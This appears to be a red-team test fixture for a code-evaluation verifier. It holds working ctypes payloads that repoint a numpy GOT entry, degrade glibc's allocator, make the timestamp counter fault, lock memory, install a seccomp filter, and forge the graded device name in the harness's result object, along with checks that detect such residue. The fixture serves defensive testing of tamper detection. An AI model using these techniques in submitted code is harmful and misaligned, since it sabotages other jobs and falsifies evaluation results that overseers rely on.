"""Candidate code for tests/verifier/test_redteam_round16.py (red-team round 16).

Planted as rounds 12-15 plant residue (the model's `__del__`, after the job's own checks:
Python and ctypes here stand for what a compiled candidate does in C++, which no static check
reads). Each block says what it does.
"""

from __future__ import annotations

from redteam_round7_cases import NUMPY_RELU
from redteam_round14_cases import leaving

# --- a GOT entry of a loaded library repointed -------------------------------------------------
# numpy's `_multiarray_umath` calls libc's `memmove` through its global offset table (a
# contiguous `ndarray.copy()` is one `memmove`). The table is in the library's RELRO pages
# (read-only after loading): `mprotect` them writable, write another libc function's address
# over the entry, make them read-only again: /proc/self/maps reads as before, no Python object
# changed. `GOT_TARGET` is replaced by the libc function the entry is pointed at.
GOT_REPOINT = """
import ctypes, struct
def _slot(lib, sym):
    for ln in open("/proc/self/maps"):
        p = ln.split()
        if len(p) >= 6 and lib in p[5] and int(p[2], 16) == 0:
            path, base = p[5], int(p[0].split("-")[0], 16)
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    size, count = struct.unpack_from("<HH", data, 0x3A)
    secs = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * size) for i in range(count)]
    dyn = next(i for i, s in enumerate(secs) if s[1] == 11)
    names = secs[secs[dyn][6]][4]
    for s in secs:
        if s[1] != 4 or s[6] != dyn:
            continue
        for off in range(s[4], s[4] + s[5], 24):
            where, info = struct.unpack_from("<QQ", data, off)
            at = names + struct.unpack_from("<I", data, secs[dyn][4] + (info >> 32) * 24)[0]
            if info >> 32 and data[at:data.index(b"\\0", at)] == sym:
                return base + where
libc = ctypes.CDLL(None)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
cell = _slot("_multiarray_umath", b"memmove")
libc.mprotect(cell & ~4095, 4096, 3)
ctypes.c_void_p.from_address(cell).value = ctypes.cast(libc.GOT_TARGET, ctypes.c_void_p).value
libc.mprotect(cell & ~4095, 4096, 1)
"""

# `memmove(dst, src, n)` as `memset(dst, src, n)`: every later contiguous numpy copy is the
# low byte of its source's address, n times
GOT_MEMMOVE_IS_MEMSET = GOT_REPOINT.replace("GOT_TARGET", "memset")
# as `usleep(dst)`: the low 32 bits of an address in microseconds (up to 71 minutes) and no copy
GOT_MEMMOVE_SLEEPS = GOT_REPOINT.replace("GOT_TARGET", "usleep")

# an honest numpy ReLU whose result is a contiguous copy (one `memmove` in numpy)
COPYING_RELU = '''import torch


class ModelNew(torch.nn.Module):
    def forward(self, x):
        import numpy as np
        if x.is_cuda:  # on a GPU worker (WORKER_BACKEND=cuda): the same numpy copy via the host
            return torch.from_numpy(np.maximum(x.cpu().numpy(), 0).copy()).to(x.device)
        return torch.from_numpy(np.maximum(x.numpy(), 0).copy())
'''

# --- glibc's allocator tuned for every later job ----------------------------------------------
# `mallopt` settings are process-wide and no getter of Python's shows them: no mmap for any
# block (M_MMAP_THRESHOLD at its maximum, which also ends the dynamic threshold), the heap's
# top trimmed back at every free (M_TRIM_THRESHOLD 0, M_TOP_PAD 0: each 256 KiB block is a
# brk up, 64 fresh pages faulted in, a brk down), and every block filled at malloc and free
# (M_PERTURB): torch's and numpy's buffers pay all three at every call.
MALLOPT_SLOW = """
import ctypes
libc = ctypes.CDLL(None)
libc.mallopt(-3, 32 * 1024 * 1024)  # M_MMAP_THRESHOLD
libc.mallopt(-1, 0)  # M_TRIM_THRESHOLD
libc.mallopt(-2, 0)  # M_TOP_PAD
libc.mallopt(-6, 0xA5)  # M_PERTURB
"""


# --- the same in this process, undone: which routes the residue check sees ----------------------
# run by `python -c` (a repointed entry may crash the process that checks it): prints the
# residue `left_in_process` found, one line. ROUTE: "relro" (numpy's `memmove` entry, in RELRO,
# pointed at libc's `mempcpy`), "bound" (a lazily bound entry of libpython outside RELRO, bound
# when the check's snapshot was taken, pointed 16 bytes on), "unbound" (one not bound then: its
# PLT stub's address moved to the next stub's, so its first call runs another function; under
# LD_BIND_NOW none is a stub: a bound one moved, as "bound" does)
GOT_ROUTE_CHECK = '''
import ctypes, os, sys
import numpy as np, torch
from verifier.run import relocations
from verifier.run.tamper import left_in_process, process_state
ROUTE = sys.argv[1]
before = process_state()
libc = ctypes.CDLL(None)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
objs = relocations._objects()
lib = next((p for p in objs if ("_multiarray_umath" if ROUTE == "relro" else "libpython") in p),
           os.path.realpath(sys.executable))  # an interpreter linked with libpython statically
st = os.stat(lib)
first, relro, slots, (plt_lo, plt_hi) = relocations._layout(lib, (st.st_ino, st.st_mtime_ns))
base = objs[lib][0] - (first & ~0xFFF)
if ROUTE == "relro":
    ns = {}
    exec(GOT_REPOINT.replace("libc.GOT_TARGET", "libc.mempcpy"), ns)
    cell, value = ns["cell"], None
else:
    def stub(s):
        return plt_lo <= ctypes.c_void_p.from_address(base + s).value - base < plt_hi
    class Info(ctypes.Structure):
        _fields_ = [("fname", ctypes.c_char_p), ("fbase", ctypes.c_void_p),
                    ("sname", ctypes.c_char_p), ("saddr", ctypes.c_void_p)]

    def name(s):  # the function an entry is bound to (dladdr), b"" for a stub
        info = Info()
        addr = ctypes.c_void_p(ctypes.c_void_p.from_address(base + s).value)
        return (info.sname or b"") if libc.dladdr(addr, ctypes.byref(info)) else b""

    quiet = (b"hypot", b"fmod", b"atan2", b"round", b"modf", b"pow", b"log1p", b"expm1")
    stubs = [s for s in slots if stub(s)]  # none under LD_BIND_NOW, the workers' (gpu_pool)
    print("STUBS", len(stubs))
    quiet_ones = [s for s in slots if not stub(s) and name(s) in quiet]
    pick = (quiet_ones if ROUTE == "bound" else stubs or quiet_ones)[-1]
    cell = base + pick
    value = ctypes.c_void_p.from_address(cell).value
    ctypes.c_void_p.from_address(cell).value = value + 16
left = [x for x in left_in_process(before) if x != "file descriptors"]
if value is not None:
    ctypes.c_void_p.from_address(cell).value = value
print("LEFT", left)
'''.replace("GOT_REPOINT", repr(GOT_REPOINT))

assert NUMPY_RELU and leaving

# --- the verdict's device named by the candidate ----------------------------------------------
# The worker's harness writes `device` into its JobResult before the candidate loads, and the
# result line carries it to the verdict (`stages.record_measurements`). A forward that finds
# its JobResult (gc) names the device itself, a new name at each run: the dataset's check that
# a program's timings repeat on one device (`pipeline.datasets.pairs`) groups by it, and a
# perf-analysis row reads the device's peaks by it.
DEVICE_FORGED = NUMPY_RELU.replace("    def forward(self, x):\n", '''    def forward(self, x):
        import gc, os
        for obj in gc.get_objects():
            if type(obj).__name__ == "JobResult" and isinstance(getattr(obj, "data", None), dict):
                obj.data["device"] = "NVIDIA B200 run " + os.urandom(4).hex()
''')

# --- the time stamp counter made to fault -----------------------------------------------------
# `prctl(PR_SET_TSC, PR_TSC_SIGSEGV)`: every later `rdtsc` of the process faults, the vDSO's
# `clock_gettime` (every `time.monotonic`) among them.
TSC_FAULTS = """
import ctypes
ctypes.CDLL(None).prctl(26, 2, 0, 0, 0)  # PR_SET_TSC, PR_TSC_SIGSEGV
"""

# --- every later mapping locked ---------------------------------------------------------------
# `mlockall(MCL_FUTURE)`: every later mapping of the process is locked as it is made (faulted
# in whole, counted against RLIMIT_MEMLOCK: past it, an allocation fails). Here, as root: a
# numpy ReLU 26.6 -> 36.7 us a call in one process.
LOCKED_FUTURE = """
import ctypes
ctypes.CDLL(None).mlockall(2)  # MCL_FUTURE
"""

# --- a seccomp filter left for every later job ------------------------------------------------
# A filter stays for the process's life (no_new_privs first, as any process may): here `mlock`
# refused with EPERM (a stand-in: any syscall a later job or the harness makes could be refused
# or answered with an error of the job's choosing).
SECCOMP_FILTER = """
import ctypes
class F(ctypes.Structure):
    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte),
                ("k", ctypes.c_uint)]
class P(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(F))]
prog = (F * 4)(F(0x20, 0, 0, 0), F(0x15, 0, 1, 149), F(0x06, 0, 0, 0x50001),
               F(0x06, 0, 0, 0x7FFF0000))
libc = ctypes.CDLL(None)
libc.prctl(38, 1, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS
libc.prctl(22, 2, ctypes.byref(P(4, prog)), 0, 0)  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER
"""


# --- what a later job meets of glibc's allocator ------------------------------------------------
# an honest numpy ReLU that first asks the allocator two questions, and fails (a runtime error)
# if either says a job's `mallopt` is still in force: is every fresh 4 KiB block (past the
# thread cache, so `_int_malloc`'s own path) filled with M_PERTURB's byte (0xA5 ^ 0xFF), and is
# the heap's top given back at the free of an 8 MiB block (M_TRIM_THRESHOLD 0)?
ALLOCATOR_PROBE = NUMPY_RELU.replace("class ModelNew(torch.nn.Module):\n", """class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        import ctypes
        libc = ctypes.CDLL(None)
        libc.malloc.restype, libc.sbrk.restype = ctypes.c_void_p, ctypes.c_void_p
        libc.malloc.argtypes, libc.free.argtypes = [ctypes.c_size_t], [ctypes.c_void_p]
        libc.sbrk.argtypes = [ctypes.c_long]
        blocks = [libc.malloc(4096) for _ in range(16)]
        filled = all(ctypes.string_at(b, 4096) == b"\\x5a" * 4096 for b in blocks)
        for b in blocks:
            libc.free(b)
        block = libc.malloc(8 << 20)
        top = libc.sbrk(0)
        libc.free(block)
        trimmed = libc.sbrk(0) < top
        if filled or trimmed:
            raise RuntimeError(f"allocator settings of an earlier job: filled {filled}, "
                               f"trimmed {trimmed}")

""")
